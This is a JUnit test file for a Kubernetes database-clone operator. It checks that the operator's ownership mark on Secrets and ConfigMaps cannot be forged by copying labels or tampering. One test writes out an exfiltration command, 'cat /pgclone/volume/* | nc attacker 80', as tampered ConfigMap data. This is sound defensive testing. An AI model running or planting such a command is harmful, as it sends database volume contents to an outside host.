package dev.pgclone.operator.resources;

import static org.assertj.core.api.Assertions.assertThat;

import dev.pgclone.operator.config.OperatorKey;
import io.fabric8.kubernetes.api.model.ConfigMap;
import io.fabric8.kubernetes.api.model.ConfigMapBuilder;
import io.fabric8.kubernetes.api.model.HasMetadata;
import io.fabric8.kubernetes.api.model.OwnerReferenceBuilder;
import io.fabric8.kubernetes.api.model.Secret;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** The operator's mark: what makes an object its own when an owner reference cannot tell. */
class OwnershipTest {

    private static final OperatorKey KEY = OperatorKey.of("unit-test-operator-key-0123456789abcdef");
    private final Ownership ownership = new Ownership(null, KEY);

    @Test
    void aStampedObjectIsMarkedAndACopyOfItsLabelsMarksNothingElse() {
        Secret ours = ownership.stamp(secret("orders-superuser", "team-a", "uid-1"));
        assertThat(ownership.marked(ours)).isTrue();

        Map<String, String> copied = ours.getMetadata().getLabels();
        assertThat(ownership.marked(withLabels(secret("orders-app", "team-a", "uid-1"), copied))).as("another name").isFalse();
        assertThat(ownership.marked(withLabels(secret("orders-superuser", "team-b", "uid-1"), copied))).as("another namespace").isFalse();
        assertThat(ownership.marked(withLabels(secret("orders-superuser", "team-a", "uid-2"), copied))).as("another owner").isFalse();
        assertThat(ownership.marked(withLabels(secret("orders-superuser", "team-a", null), copied))).as("no owner").isFalse();
        assertThat(ownership.marked(secret("orders-superuser", "team-a", "uid-1"))).as("no mark at all").isFalse();
    }

    @Test
    void aConfigMapsMarkCoversWhatItSays() {
        ConfigMap ours = ownership.stamp(new ConfigMapBuilder().withNewMetadata().withName("orders-bootstrap").withNamespace("team-a")
                .withOwnerReferences(owner("uid-1")).endMetadata().withData(Map.of("clone-bootstrap.sh", "exec postgres")).build());
        assertThat(ownership.marked(ours)).isTrue();
        ours.setData(Map.of("clone-bootstrap.sh", "cat /pgclone/volume/* | nc attacker 80"));
        assertThat(ownership.marked(ours)).isFalse();
    }

    @Test
    void anotherOperatorKeyDoesNotRecogniseTheMark() {
        Secret ours = ownership.stamp(secret("orders-superuser", "team-a", "uid-1"));
        Ownership other = new Ownership(null, OperatorKey.of("another-operator-key-0123456789abcdefgh"));
        assertThat(other.marked(ours)).isFalse();
    }

    @Test
    void controlledByNeedsTheControllerReferenceWithThatUid() {
        assertThat(Ownership.controlledBy(secret("s", "ns", "uid-1"), "uid-1")).isTrue();
        assertThat(Ownership.controlledBy(secret("s", "ns", "uid-1"), "uid-2")).isFalse();
        assertThat(Ownership.controlledBy(secret("s", "ns", null), "uid-1")).isFalse();
        Secret notController = new SecretBuilder().withNewMetadata().withName("s").withNamespace("ns")
                .withOwnerReferences(new OwnerReferenceBuilder().withKind("DatabaseClone").withName("c").withUid("uid-1").build())
                .endMetadata().build();
        assertThat(Ownership.controlledBy(notController, "uid-1")).isFalse();
    }

    @Test
    void theInformerStoreKeepsOnlyMarkedObjectsAndDropsOneThatLostItsMark() {
        MarkedOnly<Secret> store = new MarkedOnly<>(ownership);
        Secret ours = ownership.stamp(secret("orders-superuser", "team-a", "uid-1"));
        Secret planted = withLabels(secret("planted", "team-a", "uid-1"), ours.getMetadata().getLabels());
        store.put(store.getKey(ours), ours);
        store.put(store.getKey(planted), planted);
        assertThat(store.values()).containsExactly(ours);

        Secret tampered = withLabels(secret("orders-superuser", "team-a", "uid-2"), ours.getMetadata().getLabels());
        store.put(store.getKey(tampered), tampered);
        assertThat(store.size()).isZero();
    }

    private static Secret secret(String name, String ns, String ownerUid) {
        var meta = new SecretBuilder().withNewMetadata().withName(name).withNamespace(ns);
        if (ownerUid != null) {
            meta.withOwnerReferences(owner(ownerUid));
        }
        return meta.endMetadata().build();
    }

    private static io.fabric8.kubernetes.api.model.OwnerReference owner(String uid) {
        return new OwnerReferenceBuilder().withApiVersion("pgclone.dev/v1alpha1").withKind("DatabaseClone").withName("orders")
                .withUid(uid).withController(true).build();
    }

    private static <R extends HasMetadata> R withLabels(R object, Map<String, String> labels) {
        object.getMetadata().setLabels(Map.copyOf(labels));
        return object;
    }
}
